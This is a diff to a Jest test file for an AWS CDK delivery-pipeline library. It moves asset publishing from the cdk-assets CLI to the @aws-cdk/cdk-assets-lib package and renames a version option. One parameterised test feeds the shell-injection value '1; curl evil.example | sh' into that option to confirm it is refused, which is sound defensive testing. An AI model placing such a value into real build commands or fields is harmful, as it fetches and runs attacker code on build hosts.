@@ -10,6 +10,7 @@ import * as s3assets from 'aws-cdk-lib/aws-s3-assets';
 import * as ssm from 'aws-cdk-lib/aws-ssm';
 import { OrdersServiceStage } from '../../examples/cdk-stage/service-stage';
 import { DeliveryPipeline, DeploymentTarget, EnvironmentOptions, QualityCheck, ReleaseMode } from '../../src';
+import { PUBLISH_SCRIPT } from '../../src/private/asset-publisher';
 import { errorOf, flat, newApp, props } from '../util';
 
 function setup(prodAccount = '222222222222') {
@@ -63,12 +64,16 @@ describe('DeploymentTarget.cdkStage', () => {
     const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
     const assetProject = projects.find(pr => /Asset publishing/.test(pr.Properties.Description));
     const spec = JSON.parse(assetProject.Properties.Source.BuildSpec);
-    // the newest cdk-assets: 2.x (the newest of that major is 2.155) refuses the asset manifests of
-    // aws-cdk-lib 2.257 and later ("Cloud assembly schema version mismatch"), so every publish failed
-    expect(spec.phases.install.commands).toEqual(['npm install -g cdk-assets@latest']);
+    // the CDK CLI's publishing library with the newest schema, not the cdk-assets command: cdk-assets 2.x
+    // (the newest of that major is 2.155) refused the asset manifests of aws-cdk-lib 2.257, and even the
+    // newest cdk-assets (4.7.3) refuses those of aws-cdk-lib 2.274 and later (schema 55)
+    expect(spec.phases.install.commands).toEqual([
+      'npm install --prefix /tmp/cdk-delivery-assets --no-save --no-package-lock --no-audit --no-fund @aws-cdk/cdk-assets-lib@1',
+      `printf '%s\\n' '${PUBLISH_SCRIPT}' > /tmp/cdk-delivery-assets/publish.js`,
+    ]);
     expect(spec.phases.build.commands).toEqual([
-      expect.stringMatching(/^cdk-assets --path "cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json" --verbose publish$/),
-      expect.stringMatching(/^cdk-assets --path "cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json" --verbose publish$/),
+      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json"$/),
+      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json"$/),
     ]);
     const policy = Object.entries(Template.fromStack(stack).findResources('AWS::IAM::Policy')).find(([id]) => /^OrdersAssetsProjectRoleDefaultPolicy/.test(id))![1] as any;
     const assume = flat(policy.Properties.PolicyDocument.Statement).find((st: any) => st.Action === 'sts:AssumeRole');
@@ -109,12 +114,15 @@ describe('DeploymentTarget.cdkStage', () => {
     expect(projects.filter(([, p]) => /Asset publishing/.test(p.Properties.Description))).toEqual([]);
     const [buildId, build] = projects.find(([, p]) => /^Build of /.test(p.Properties.Description))!;
     const spec = JSON.parse(build.Properties.Source.BuildSpec);
-    expect(spec.phases.install.commands).toContain('npm install -g cdk-assets@latest');
-    expect(spec.phases.install.commands[0]).toBe('npm ci');
+    expect(spec.phases.install.commands).toEqual([
+      'npm ci',
+      'npm install --prefix /tmp/cdk-delivery-assets --no-save --no-package-lock --no-audit --no-fund @aws-cdk/cdk-assets-lib@1',
+      expect.stringMatching(/^printf '%s\\n' 'const \{ AssetManifest, AssetPublishing, DefaultAwsClient \} = .*' > \/tmp\/cdk-delivery-assets\/publish\.js$/),
+    ]);
     expect(spec.phases.build.commands).toEqual([
       'npm test',
-      expect.stringMatching(/^cdk-assets --path "cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json" --verbose publish$/),
-      expect.stringMatching(/^cdk-assets --path "cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json" --verbose publish$/),
+      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json"$/),
+      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json"$/),
     ]);
     const roleId = build.Properties.ServiceRole['Fn::GetAtt'][0];
     const policy = (Object.values(template.findResources('AWS::IAM::Policy')) as any[]).find(p => p.Properties.Roles.some((r: any) => r.Ref === roleId));
@@ -127,34 +135,35 @@ describe('DeploymentTarget.cdkStage', () => {
     expect(pipeline.describe().buildStep.details).toContain('then publishes the CDK stages\' assets (publishAssetsInBuild)');
   });
 
-  test('cdkAssetsVersion pins the cdk-assets that publishes, in the PublishAssets action and in the build', () => {
-    const installOf = (publishAssetsInBuild: boolean, cdkAssetsVersion: string) => {
+  test('cdkAssetsLibVersion pins the publishing library, in the PublishAssets action and in the build', () => {
+    const installOf = (publishAssetsInBuild: boolean, cdkAssetsLibVersion: string) => {
       const { stack, staging } = setup();
       new DeliveryPipeline(stack, 'Orders', props({
-        publishAssetsInBuild, cdkAssetsVersion, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
+        publishAssetsInBuild, cdkAssetsLibVersion, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
       }));
       const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
       const project = projects.find(pr => (publishAssetsInBuild ? /^Build of / : /Asset publishing/).test(pr.Properties.Description));
-      return JSON.parse(project.Properties.Source.BuildSpec).phases.install.commands;
+      return JSON.parse(project.Properties.Source.BuildSpec).phases.install.commands.filter((c: string) => c.startsWith('npm install --prefix'));
     };
-    expect(installOf(false, '4.7.3')).toEqual(['npm install -g cdk-assets@4.7.3']);
-    expect(installOf(true, '4')).toEqual(['npm ci', 'npm install -g cdk-assets@4']);
-    expect(installOf(false, '^4.7')).toEqual(['npm install -g cdk-assets@^4.7']);
+    const install = (version: string) => `npm install --prefix /tmp/cdk-delivery-assets --no-save --no-package-lock --no-audit --no-fund @aws-cdk/cdk-assets-lib@${version}`;
+    expect(installOf(false, '1.5.0')).toEqual([install('1.5.0')]);
+    expect(installOf(true, '1')).toEqual([install('1')]);
+    expect(installOf(false, '^1.5')).toEqual([install('^1.5')]);
   });
 
   test.each([
-    ['4; curl evil.example | sh', "'4; curl evil.example | sh'"],
-    ['>=4', "'>=4'"],
+    ['1; curl evil.example | sh', "'1; curl evil.example | sh'"],
+    ['>=1', "'>=1'"],
     ['', "''"],
-  ])('cdkAssetsVersion %j is refused: it follows npm install -g cdk-assets@ in a shell', (value, shown) => {
+  ])('cdkAssetsLibVersion %j is refused: it follows npm install @aws-cdk/cdk-assets-lib@ in a shell', (value, shown) => {
     const { stack, staging } = setup();
     const message = errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
-      cdkAssetsVersion: value, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
+      cdkAssetsLibVersion: value, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
     })));
     expect(message).toBe(value === ''
-      ? `'PipelineStack/Orders': cdkAssetsVersion must not be empty, got ${shown}. Pass an npm version or tag such as '4', '4.7.3' or 'latest'.`
-      : `'PipelineStack/Orders': cdkAssetsVersion must be an npm version or dist-tag of cdk-assets (it follows 'npm install -g cdk-assets@'), got ${shown}. `
-        + "Pass an npm version or tag such as '4', '4.7.3' or 'latest', or leave it out for 'latest'.");
+      ? `'PipelineStack/Orders': cdkAssetsLibVersion must not be empty, got ${shown}. Pass an npm version or tag of @aws-cdk/cdk-assets-lib such as '1' or '1.5.0'.`
+      : `'PipelineStack/Orders': cdkAssetsLibVersion must be an npm version or dist-tag (it follows 'npm install @aws-cdk/cdk-assets-lib@'), got ${shown}. `
+        + "Pass an npm version or tag of @aws-cdk/cdk-assets-lib such as '1' or '1.5.0', or leave it out for '1'.");
   });
 
   test('a check named PublishAssets clashes with the asset action', () => {
